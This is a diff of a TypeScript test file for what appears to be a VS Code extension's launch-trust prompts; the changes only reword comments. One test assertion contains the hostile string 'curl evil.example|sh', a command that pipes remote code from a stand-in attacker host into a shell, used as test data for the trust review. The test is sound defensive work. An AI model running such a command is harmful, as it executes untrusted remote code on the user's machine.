@@ -54,7 +54,7 @@ function serverOf({ config }: Launch): LocatedDefinition {
 
 const logs = { extension: silentLogger };
 
-/** The two files that a document leads to a comparison of. */
+/** Returns the two files whose comparison a document links to. */
 function comparedIn(document: DocumentQuestion | undefined) {
   const [link] = document?.links ?? [];
   const textOf = (name: unknown) =>
@@ -79,7 +79,7 @@ describe('the trust in a launch', () => {
   });
   afterEach(() => rm(folder, { recursive: true, force: true }));
 
-  /** As a window of its own. */
+  /** Creates the trust of a new window. */
   const open = () => {
     const store = new TrustStore(vscode.Uri.file(folder), nodeFiles);
     const trust = createTrust({
@@ -280,13 +280,16 @@ describe('the trust in a launch', () => {
     const late = start('c');
     shown.choose('Start Checked (1)');
     assert.deepEqual(await Promise.all(all), ['start', 'notNow']);
-    // It came in after the user had checked what they wanted.
+    // It came in after the user had checked some of the others.
     (await picks.next(/^Start "c"\?/)).choose('Not for This Workspace');
     assert.equal(await late, 'notHere');
     picks.dispose();
   });
 
-  /** Chooses the first two of launches that do not fit their rows, and answers their document with `choice`. */
+  /**
+   * Chooses the first two of several launches that are too long for their rows, and answers their document with
+   * `choice`.
+   */
   const review = async (
     choice: string | undefined,
     given: readonly Partial<TrustQuestion>[] = [{}, {}],
@@ -388,7 +391,7 @@ describe('the trust in a launch', () => {
     picks.dispose();
     const [document] = shownDocuments;
     assert.match(document?.text ?? '', /-c\n +'curl evil\.example\|sh'\n +--token\n/);
-    // What was kept earlier is without secrets, and is compared with the same of now.
+    // The earlier launch was stored without secrets, so it is compared with the current one without its secrets.
     const { now, before } = comparedIn(document);
     assert.match(now, /-c\n.*redacted.*\n +--token\n/);
     assert.match(before, /node\n +serve\n/);
@@ -432,7 +435,7 @@ describe('the trust in a launch', () => {
       const { picks, answered, ended, all } = await review(choice);
       const again = await picks.next(/^2 servers wait/);
       assert.deepEqual(answered, []);
-      // What was checked still is.
+      // The rows that were checked still are.
       assert.ok(again.pick.items.some(({ label }) => label === 'Review and Start Checked (2)…'));
       ended.abort();
       await all;
